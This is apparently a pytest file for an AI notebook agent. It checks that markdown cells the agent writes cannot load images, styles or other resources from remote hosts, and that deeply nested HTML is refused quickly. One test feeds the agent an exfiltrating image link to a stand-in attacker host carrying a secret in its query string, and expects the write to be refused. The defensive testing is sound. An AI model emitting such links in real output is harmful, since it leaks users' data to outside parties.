"""Markdown cells the agent writes never load anything from elsewhere when the notebook shows them."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest

from copilot_nb.tools import ToolSet
from copilot_nb.tools.notebook.markdown_loads import remote_loads
from copilot_nb.workspace.workspace import Workspace
from tests.helpers import call
from tests.html_safety import payloads
from tests.notebook_samples import raw, sample_tools

LOADING = [p for p in payloads() if p["kind"] in ("image", "css")]
CORPUS = json.loads(
    (Path(__file__).parent / "data" / "markdown_loads" / "payloads.json").read_text("utf-8")
)["payloads"]


@pytest.mark.parametrize("payload", CORPUS, ids=[p["id"] for p in CORPUS])
def test_the_corpus_is_read_as_the_browser_reads_it(payload: dict[str, Any]) -> None:
    found = remote_loads(payload["markdown"])
    if payload["loads"]:
        assert found, f"would load from elsewhere: {payload['markdown']!r}"
    else:
        assert found == [], f"loads nothing from elsewhere: {payload['markdown']!r}"


def test_the_corpus_holds_the_bypasses_of_the_pattern_based_check() -> None:
    assert sum(p.get("bypass", False) for p in CORPUS) == 8
    assert sum(p["loads"] for p in CORPUS) > 80 and sum(not p["loads"] for p in CORPUS) > 30


@pytest.mark.parametrize(
    "markdown",
    ["<!--" * 20_000, "<a " * 30_000, "<style>" * 20_000, "<svg><style>" * 5_000],
)
def test_unclosed_html_in_bulk_is_refused_quickly(markdown: str) -> None:
    started = time.monotonic()
    assert remote_loads(markdown) == ["(HTML nested too deeply to check)"]
    assert time.monotonic() - started < 5


def test_many_comments_and_paragraphs_are_fine() -> None:
    assert remote_loads("<!-- note -->\n\n![](plot.png) text\n\n" * 2_000) == []


@pytest.fixture
def tools(ws: Workspace) -> ToolSet:
    return sample_tools(ws)


@pytest.mark.parametrize("payload", LOADING, ids=[p["id"] for p in LOADING])
def test_every_loading_payload_of_the_xss_corpus_is_found(payload: dict[str, str]) -> None:
    if "](data:image/" in payload["payload"]:
        assert remote_loads(payload["payload"]) == []  # inline: loads nothing from anywhere
    else:
        assert remote_loads(payload["payload"]), payload["payload"]


@pytest.mark.parametrize(
    "markdown",
    [
        "# Results\n\nSee [the docs](https://example.org/docs) and <https://example.org>.",
        "![plot](figures/plot.png) and <img src='figures/a.png'>",
        '<a href="https://example.org/x">a plain link loads nothing until clicked</a>',
        "```html\n<img src='https://example.org/in-a-fence.png'>\n```",
        "`![inline code](https://example.org/x.png)`",
    ],
)
def test_links_relative_images_and_code_load_nothing(markdown: str) -> None:
    assert remote_loads(markdown) == []


def test_each_kind_of_load_is_named() -> None:
    text = (
        "![a](https://h.example/a.png)\n\n"
        "<video poster='//h.example/b.jpg'></video>\n\n"
        "<div style=\"background: url('http://h.example/c')\">x</div>\n\n"
        "<link rel=stylesheet href=https://h.example/d.css>"
    )
    assert remote_loads(text) == [
        "https://h.example/a.png",
        "//h.example/b.jpg",
        "http://h.example/c",
        "https://h.example/d.css",
    ]


async def test_insert_cell_refuses_markdown_that_would_load_from_elsewhere(
    tools: ToolSet, nb_path: Path
) -> None:
    before = raw(nb_path)
    out = await call(
        tools,
        "insert_cell",
        after_cell_id=None,
        cell_type="markdown",
        source="Summary\n\n![x](https://attacker.example/?q=SECRET)",
    )
    assert out.is_error
    assert "may not load anything from elsewhere" in out.content
    assert "https://attacker.example/?q=SECRET" in out.content
    assert raw(nb_path) == before, "nothing was written"


async def test_a_load_the_cell_already_had_may_stay(
    tools: ToolSet, cells: list[Any], nb_path: Path
) -> None:
    logo = "![logo](https://example.org/logo.png)"
    first = await call(tools, "replace_cell", cell_id=cells[0].id, source=f"# Sales\n{logo}")
    assert first.is_error, "a new load is refused"
    # the user's own cell keeps its image when the agent edits other text in it
    nb = __import__("nbformat").read(nb_path, as_version=4)
    nb.cells[0].source = f"# Sales\n{logo}"
    __import__("nbformat").write(nb, nb_path)
    await call(tools, "list_cells")
    out = await call(
        tools, "edit_cell", cell_id=cells[0].id, old_str="# Sales", new_str="# Revenue"
    )
    assert not out.is_error, out.content


async def test_code_cells_are_not_rendered_and_may_hold_any_url(tools: ToolSet) -> None:
    out = await call(
        tools,
        "insert_cell",
        after_cell_id=None,
        cell_type="code",
        source="url = 'https://example.org/data.csv'\n# ![not rendered](https://x.example/a.png)",
    )
    assert not out.is_error, out.content
